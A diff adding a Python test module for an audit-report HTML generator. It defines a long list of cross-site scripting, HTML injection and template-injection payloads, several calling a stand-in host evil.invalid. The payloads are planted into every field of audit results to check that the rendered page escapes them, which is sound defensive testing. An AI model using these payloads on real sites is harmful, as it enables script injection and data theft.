@@ -1,0 +1,162 @@
+"""Text that strangers have smuggled into pages, in every text of a result, and a reader of pages."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from html.parser import HTMLParser
+
+from audit.claims import PureDP
+from audit.report.page import build_report
+from audit.report.words import LONGEST
+from audit.results import ONE_RUN
+from tests.helpers import audited, estimated
+
+# What people have smuggled into pages through names: each would set `pwned`, ask for an address, or take over the page.
+PAYLOADS = [
+    "<script>window.pwned=1</script>",
+    "</script><script>window.pwned=1</script>",
+    "<ScRiPt>window.pwned=1</sCrIpT>",
+    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
+    "<script/x>window.pwned=1</script/x>",
+    "<script src=//evil.invalid/x.js></script>",
+    "<script src='data:text/javascript,window.pwned=1'></script>",
+    "<script type=module>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<img/src=x/onerror=window.pwned=1>",
+    "<img src=//evil.invalid/pixel.png>",
+    "<image href=//evil.invalid/a.png>",
+    "<body onload=window.pwned=1>",
+    "<svg onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
+    "<svg><set attributeName=href to=javascript:window.pwned=1></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=a onload=window.pwned=1>#a'/></svg>",
+    "<svg><foreignObject><iframe src=javascript:window.pwned=1></foreignObject></svg>",
+    "</title><script>window.pwned=1</script>",
+    "</desc></svg><script>window.pwned=1</script>",
+    "</style><script>window.pwned=1</script>",
+    "</textarea><script>window.pwned=1</script>",
+    "</details></section></main><script>window.pwned=1</script>",
+    "<style>@import '//evil.invalid/a.css';</style>",
+    "<style>*{background:url(//evil.invalid/b.png)}</style>",
+    "<link rel=stylesheet href=//evil.invalid/a.css>",
+    "<link rel=prefetch href=//evil.invalid/>",
+    "<p style='position:fixed;inset:0;background:url(//evil.invalid/c.png)'>covered</p>",
+    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
+    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
+    "<base href=//evil.invalid/>",
+    "<form action=//evil.invalid/><button>send</button></form>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<select autofocus onfocus=window.pwned=1>",
+    "<button formaction=javascript:window.pwned=1>press</button>",
+    "<iframe src=javascript:window.pwned=1></iframe>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<object data=javascript:window.pwned=1></object>",
+    "<embed src=//evil.invalid/x.swf>",
+    "<video><source onerror=window.pwned=1></video>",
+    "<audio src=x onerror=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>",
+    "<marquee onstart=window.pwned=1>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
+    "<math href=javascript:window.pwned=1 xlink:href=javascript:window.pwned=1>m</math>",
+    "<a href=javascript:window.pwned=1>here</a>",
+    "javascript:window.pwned=1",
+    "data:text/html,<script>window.pwned=1</script>",
+    '" onmouseover="window.pwned=1',
+    "' onmouseover='window.pwned=1",
+    '"><script>window.pwned=1</script>',
+    "'><script>window.pwned=1</script>",
+    "` onmouseover=`window.pwned=1",
+    "x onmouseover=window.pwned=1 y",
+    "<!--><script>window.pwned=1</script>-->",
+    "--><script>window.pwned=1</script><!--",
+    "<![CDATA[<script>window.pwned=1</script>]]>",
+    "<?xml version='1.0'?><?php echo 1 ?>",
+    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
+    "<template><script>window.pwned=1</script></template>",
+    "<slot name=pwned></slot><x-pwned is=x-y></x-pwned>",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
+    "&#x3c;img src=x onerror=window.pwned=1&#x3e",
+    "{{ 7 * 191 }}{% for x in y %}{# pwned #}",
+    "${window.pwned=1} #{window.pwned=1} <%= window.pwned=1 %>",
+    "{{ self.__init__.__globals__ }}",
+    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
+    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}window.pwned=1",
+    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
+    "<scr\x00ipt>window.pwned=1</script>",
+    "\ufeff<script>window.pwned=1</script>",
+    "total\u202egnp.stnuoc\u2066 \u200b\u2028",
+    "<a\x0chref=\x01javascript:window.pwned=1>\r\nx</a>\x1b[2J",
+    "a\u0300" + "\u0301" * 40,
+    "\ud800<script>window.pwned=1</script>",
+    "A" * (LONGEST + 500) + "<script>window.pwned=1</script>",
+]
+TAGS = {
+    *("html", "head", "meta", "title", "style", "body", "header", "main", "section", "footer", "nav", "article"),
+    *("h1", "h2", "h3", "h4", "p", "a", "b", "small", "strong", "code", "pre", "bdi", "span", "div", "ul", "ol", "li"),
+    *("dl", "dt", "dd", "figure", "figcaption", "table", "caption", "thead", "tbody", "tr", "th", "td", "details"),
+    *("summary", "svg", "desc", "rect", "line", "path", "text", "polygon", "polyline"),
+}
+
+
+class Page(HTMLParser):
+    """What a page consists of: its tags and attributes, its text."""
+
+    def __init__(self, page):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.attributes, self.pieces = set(), set(), []
+        self.feed(page)
+        self.close()
+        self.text = "".join(self.pieces)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attributes |= {(name, value) for name, value in attrs}
+
+    def handle_data(self, data):
+        self.pieces.append(data)
+
+    def values(self, name):
+        return {value for key, value in self.attributes if key == name}
+
+
+def planted(words, **changes):
+    """An audit in which every text is `words`, down to the keys."""
+    result = audited(
+        **{name: words for name in ("mechanism", "event", "searched", "pair", "bound")},
+        claim=PureDP(1.0),
+        measured=PureDP(2.0),
+        verdict="violated",
+        counts={side: {"runs": 9, words: 3, "guessed_y": 2} for side in ("x", "y", words)},
+        support={"order": words, "probability": 0.25},
+        provenance={
+            "software": {"plaudit": words, words: words},
+            "python": words,
+            "platform": words,
+            "created": words,
+            "command": words,
+            "parameters": {"size": words, words: {words: [words]}, "stop": words},
+            words: words,
+        },
+        basis={words: words},
+    )
+    return replace(result, **changes)
+
+
+def planted_estimate(words):
+    return estimated(method=words, statistic=words, assumptions=(words, words), settings={words: words, "lag": [words]})
+
+
+def hostile_page(payloads, **options):
+    """A page in which every payload is in every text of audits and estimates, with and without a command."""
+    given = [(words, planted(words)) for words in payloads]
+    given += [
+        (words, planted(words, provenance={"parameters": {"share": words}}, bound=ONE_RUN)) for words in payloads[::3]
+    ]
+    others = [(words, planted_estimate(words)) for words in payloads]
+    return build_report(given, others, **{"title": " ".join(payloads)[:4000]} | options)
+
+
+def body(page):
+    return page.partition("</style>")[2]
